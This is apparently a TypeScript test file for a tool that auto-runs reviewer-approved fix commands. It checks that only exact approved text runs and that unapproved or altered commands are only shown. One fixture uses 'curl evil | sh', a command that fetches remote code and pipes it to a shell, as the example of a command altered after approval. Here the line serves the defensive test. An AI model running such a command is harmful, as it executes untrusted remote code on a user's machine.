// Recipes: when a command telemetry named may run (approved exact text + auto-apply), and what exec --heal
// does with the ranked fixes of an error (only the best fix, only for its own signature).
import { describe, expect, test } from "vitest";
import { planHeal, recipeState, type HealCandidate, type RecipeFacts } from "./recipes";

const at = new Date("2026-11-30T10:00:00Z");
const facts = (over: Partial<RecipeFacts> = {}): RecipeFacts => ({
  fixCommand: "pip install httpx", approvedCommand: null, approvedBy: null, approvedAt: null, autoApply: true, ...over,
});

describe("recipeState", () => {
  test("a fix whose telemetry never named a command is no recipe", () => {
    expect(recipeState(facts({ fixCommand: null, approvedCommand: "pip install httpx" }))).toBeNull();
  });

  test.each([
    ["never approved, auto-applied", facts(), "awaiting_approval", null, false],
    ["approved, auto-applied", facts({ approvedCommand: "pip install httpx", approvedBy: "rev@x", approvedAt: at }), "approved", "pip install httpx", true],
    ["approved, not auto-applied", facts({ approvedCommand: "pip install httpx", approvedBy: "rev@x", approvedAt: at, autoApply: false }), "approved", "pip install httpx", false],
    ["approved text no longer the one telemetry names", facts({ fixCommand: "curl evil | sh", approvedCommand: "pip install httpx", approvedBy: "rev@x", approvedAt: at }), "changed_since_approval", null, false],
    ["differs only by a trailing space", facts({ fixCommand: "pip install httpx ", approvedCommand: "pip install httpx", approvedBy: "rev@x" }), "changed_since_approval", null, false],
  ])("%s → %s, command %s, runs %s", (_name, f, status, command, runs) => {
    const s = recipeState(f)!;
    expect({ status: s.status, command: s.command, runs: s.runs }).toEqual({ status, command, runs });
    if (status !== "approved") expect(s.approvedBy).toBeNull();
  });

  test("says who approved it and when", () => {
    expect(recipeState(facts({ approvedCommand: "pip install httpx", approvedBy: "rev@x", approvedAt: at }))).toMatchObject({ approvedBy: "rev@x", approvedAt: at.toISOString() });
  });
});

const fix = (over: Partial<HealCandidate> = {}): HealCandidate => ({
  fix: "install httpx", attempts: 20, successes: 19, autoApply: true, recipe: { status: "approved", command: "pip install httpx", runs: true }, ...over,
});

describe("planHeal", () => {
  test("runs the best fix's approved, auto-applied recipe", () => {
    expect(planHeal([fix(), fix({ fix: "other" })])).toMatchObject({ kind: "run", command: "pip install httpx", fix: { fix: "install httpx" } });
    expect(planHeal([fix({ match: "exact" })]).kind).toBe("run");
  });

  test.each([
    ["no fix at all", [], "no fix has been learned"],
    ["a best fix without a command", [fix({ recipe: null })], "has no command"],
    ["a command nobody approved", [fix({ recipe: { status: "awaiting_approval", command: null, runs: false } })], "no reviewer has approved"],
    ["a command changed since approval", [fix({ recipe: { status: "changed_since_approval", command: null, runs: false } })], "changed since it was approved"],
    ["an approved recipe without the auto-apply mark", [fix({ autoApply: false, recipe: { status: "approved", command: "x", runs: false } })], "does not carry the auto-apply mark"],
    ["a mark the recipe state does not confirm", [fix({ recipe: { status: "approved", command: "x", runs: false } })], "does not carry the auto-apply mark"],
    ["an approved recipe of a merely similar error", [fix({ match: "similar" })], "similar error"],
    ["one that fits another learned signature", [fix({ match: "fits" })], "similar error"],
    // a weaker fix is never run because the best one may not be
    ["a runnable second-best fix", [fix({ fix: "best", recipe: null }), fix({ fix: "second" })], "has no command"],
  ])("shows, never runs: %s", (_name, fixes, why) => {
    const plan = planHeal(fixes);
    expect(plan.kind).toBe("show");
    if (plan.kind === "show") expect(plan.why).toContain(why);
  });
});
